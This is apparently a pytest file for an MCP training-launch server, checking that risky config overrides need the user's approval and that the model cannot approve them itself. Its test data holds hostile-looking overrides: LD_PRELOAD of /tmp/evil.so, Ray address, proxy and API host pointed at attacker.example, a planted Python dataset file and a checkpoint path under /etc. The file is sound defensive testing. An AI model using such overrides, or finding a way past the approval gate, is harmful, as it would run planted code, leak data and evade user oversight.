"""Overrides that load code or write outside the run's tree are the user's to approve (issue 27, item 3), over MCP.

Seen before: ``start_training {"overrides": ["data.custom_cls.path=/tmp/evil.py"]}`` (or a reward file, an external
lib, ``trainer.default_local_dir=/etc/…``) went straight to the launch, and the runtime-env / Ray-address overrides
too. Now: those are refused outright; the code and outside-path ones are shown to the user in a form with the exact
value (declined → nothing starts); a client without forms is refused with what the user can do, and no argument lets
the model approve; values the user put in the server's environment are theirs and not asked again.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from mcp_helpers import ok, refused
from test_mcp_elicitation import Form

pytestmark = pytest.mark.both_eras  # forms or the listed schema: what differs between eras

EVIL = "data.custom_cls.path=/tmp/evil_dataset.py"
OUTSIDE = "trainer.default_local_dir=/etc/verl-ckpt"


async def _no_run(c: Any) -> None:
    assert (await ok(c, "get_session")).get("run_id") is None


async def test_without_a_form_the_model_cannot_approve(connect: Callable[..., Any]) -> None:
    async with connect() as c:
        for args in ({"overrides": [EVIL]}, {"overrides": [OUTSIDE]}, {"reward_fn_path": "/tmp/reward.py"},
                     {"ckpt_dir": "/root/ckpt"}, {"verl_home": "/tmp/planted-verl"}):  # fmt: skip
            message = await refused(c, "start_training", args)
            shown = args.get("overrides", [None])[0] or next(f"{k}={v}" for k, v in args.items())
            assert shown in message and "cannot approve on the user's behalf" in message, message
            assert "--approve" in message, message
        # No argument approves: the old-style confirmations are unknown arguments and change nothing.
        for extra in ({"approve": True}, {"confirm": True}, {"approved": [EVIL]}):
            result = await c.call_tool("start_training", {"overrides": [EVIL], **extra})
            assert result.is_error
        await _no_run(c)


async def test_the_user_sees_the_exact_values_and_may_decline(connect: Callable[..., Any]) -> None:
    declined = Form(content={"approve": False})
    async with connect(elicitation_callback=declined) as c:
        message = await refused(c, "start_training", {"overrides": [EVIL, OUTSIDE, "trainer.save_freq=3"]})
        assert "declined" in message, message
        await _no_run(c)
    (asked,) = declined.asked
    assert f"1) {EVIL} (imports this Python file)" in asked.message, asked.message
    assert f"2) {OUTSIDE} (writes outside the run's tree" in asked.message, asked.message
    assert "save_freq" not in asked.message  # free overrides are not asked
    accepted = Form(content={"approve": True})
    async with connect(elicitation_callback=accepted) as c:
        # Approved, the start goes on to the next gate (no setup session yet): the approval is no longer the refusal.
        message = await refused(c, "start_training", {"overrides": [EVIL]})
        assert "approve" not in message and "no session yet" in message, message
    assert len(accepted.asked) == 1


@pytest.mark.parametrize("override", [
    "+ray_kwargs.ray_init.runtime_env.env_vars.LD_PRELOAD=/tmp/evil.so",
    "+ray_kwargs.ray_init.runtime_env.env_vars.SWANLAB_API_HOST=http://attacker.example",
    "+ray_kwargs.ray_init.address=ray://attacker.example:10001",
    "+trainer.wandb_proxy=http://attacker.example:3128",
])  # fmt: skip
async def test_refused_overrides_are_refused_even_with_a_form(connect: Callable[..., Any], override: str) -> None:
    form = Form(content={"approve": True})
    async with connect(elicitation_callback=form) as c:
        for tool in ("start_training", "plan_training"):
            message = await refused(c, tool, {"overrides": [override]})
            assert "is refused" in message, message
        await _no_run(c)
    assert form.asked == []


async def test_the_users_own_configuration_is_not_asked_again(
    connect: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EXTRA_OVERRIDES", EVIL)
    form = Form(content={"approve": False})
    async with connect(elicitation_callback=form) as c:
        message = await refused(c, "start_training", {})
        assert "no session yet" in message, message
        plan = await ok(c, "plan_training", {"overrides": [EVIL, OUTSIDE]})
        assert f"start_training asks the user to approve: {OUTSIDE} (writes outside the run's tree /verl)" in plan[
            "assumed"]  # fmt: skip
        assert not any(EVIL in line for line in plan["assumed"]), plan["assumed"]
    assert form.asked == []
